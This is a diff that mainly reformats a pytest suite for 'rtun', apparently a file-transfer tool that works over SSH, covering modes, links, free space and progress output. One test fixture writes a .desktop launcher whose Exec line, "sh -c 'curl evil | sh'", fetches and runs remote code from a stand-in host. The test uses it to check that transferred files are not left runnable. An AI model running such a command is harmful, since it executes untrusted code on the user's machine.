@@ -10,8 +10,7 @@ from pathlib import Path
 import pytest
 
 from support.rtun import RtunDaemon, run_rtun
-from support.sshd import Forward, SshServer
-from support.wait import wait_until
+from support.sshd import Forward
 
 MTIME = 1_600_000_000.0
 
@@ -63,8 +62,10 @@ def test_send_tree_arrives_byte_identical_with_modes_and_mtimes(forward, remote_
     result = run_rtun(["send", "-q", str(tree)], remote_home, timeout=120)
     assert result.returncode == 0, result.stderr
     umask = _umask()  # the daemon's, inherited from this test
-    expected = {rel: (kind, mode & ~umask, *rest) if kind != "link" else (kind, mode, *rest)
-                for rel, (kind, mode, *rest) in snapshot(tree).items()}
+    expected = {
+        rel: (kind, mode & ~umask, *rest) if kind != "link" else (kind, mode, *rest)
+        for rel, (kind, mode, *rest) in snapshot(tree).items()
+    }
     assert snapshot(save_dir / "project") == expected
     assert stat.S_IMODE((save_dir / "project" / "group-writable").stat().st_mode) == 0o666 & ~umask
 
@@ -75,22 +76,32 @@ def _umask() -> int:
     return mask
 
 
-def test_nothing_arrives_as_a_runnable_launcher_or_writable_by_others(forward, remote_home, save_dir, short_tmp):
+def test_nothing_arrives_as_a_runnable_launcher_or_writable_by_others(
+    forward, remote_home, save_dir, short_tmp
+):
     top = short_tmp / "drop"
     top.mkdir()
     (top / "open-me.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
     (top / "readme.txt").write_text("\ufeff".encode().decode() + "\n[Desktop Entry]\nExec=x\n")
     (top / "tool").write_text("#!/bin/sh\necho hi\n")
     (top / "wide").mkdir()
-    for path, mode in ((top / "open-me.desktop", 0o777), (top / "readme.txt", 0o755), (top / "tool", 0o777),
-                       (top / "wide", 0o777)):
+    for path, mode in (
+        (top / "open-me.desktop", 0o777),
+        (top / "readme.txt", 0o755),
+        (top / "tool", 0o777),
+        (top / "wide", 0o777),
+    ):
         path.chmod(mode)
     result = run_rtun(["send", "-q", str(top)], remote_home)
     assert result.returncode == 0, result.stderr
     modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (save_dir / "drop").iterdir()}
     umask = _umask()
-    assert modes == {"open-me.desktop": 0o666 & ~umask, "readme.txt": 0o644 & ~umask,
-                     "tool": 0o777 & ~umask, "wide": 0o777 & ~umask}
+    assert modes == {
+        "open-me.desktop": 0o666 & ~umask,
+        "readme.txt": 0o644 & ~umask,
+        "tool": 0o777 & ~umask,
+        "wide": 0o777 & ~umask,
+    }
 
 
 def test_send_prints_the_final_local_path_of_each_file(forward, remote_home, save_dir, short_tmp):
@@ -144,7 +155,9 @@ def test_send_into_a_destination_directory(forward, remote_home, save_dir, short
     assert sorted(p.name for p in (save_dir / "inbox").iterdir()) == ["one", "two"]
 
 
-def test_links_inside_the_transfer_are_kept_and_links_out_are_refused(forward, remote_home, save_dir, short_tmp):
+def test_links_inside_the_transfer_are_kept_and_links_out_are_refused(
+    forward, remote_home, save_dir, short_tmp
+):
     top = short_tmp / "linked"
     (top / "sub").mkdir(parents=True)
     (top / "a.txt").write_text("a")
@@ -165,7 +178,9 @@ def test_special_files_are_refused_with_a_clear_error(forward, remote_home, shor
     assert result.stderr.decode().strip() == f"rtun send: {fifo} is not a regular file or directory"
 
 
-def test_not_enough_free_space_is_refused_before_any_byte_is_written(sshd, local_home, remote_home, short_tmp):
+def test_not_enough_free_space_is_refused_before_any_byte_is_written(
+    sshd, local_home, remote_home, short_tmp
+):
     config = local_home / ".config" / "rtun"
     config.mkdir(parents=True)
     (config / "config.toml").write_text("[send]\nmin_free_bytes = 1000000000000000000\n")
@@ -195,11 +210,18 @@ def test_progress_bar_shows_on_a_terminal_only(forward, remote_home, short_tmp):
     primary, secondary = pty.openpty()
     fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))  # a real terminal's size
     try:
-        from support.rtun import RTUN, clean_env
         import subprocess
 
-        proc = subprocess.run(RTUN + ["send", str(source)], env=clean_env(remote_home),
-                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=secondary, timeout=60)
+        from support.rtun import RTUN, clean_env
+
+        proc = subprocess.run(
+            RTUN + ["send", str(source)],
+            env=clean_env(remote_home),
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=secondary,
+            timeout=60,
+        )
         os.close(secondary)
         secondary = -1
         shown = b""
@@ -225,11 +247,13 @@ def test_send_dot_sends_the_current_directory_under_its_name(forward, remote_hom
     here = short_tmp / "work dir"
     here.mkdir()
     (here / "a.txt").write_text("a")
-    from support.rtun import RTUN, clean_env
     import subprocess
 
-    done = subprocess.run(RTUN + ["send", "-q", "."], cwd=here, env=clean_env(remote_home),
-                          capture_output=True, timeout=60)
+    from support.rtun import RTUN, clean_env
+
+    done = subprocess.run(
+        RTUN + ["send", "-q", "."], cwd=here, env=clean_env(remote_home), capture_output=True, timeout=60
+    )
     assert done.returncode == 0, done.stderr
     assert (save_dir / "work dir" / "a.txt").read_text() == "a"
 
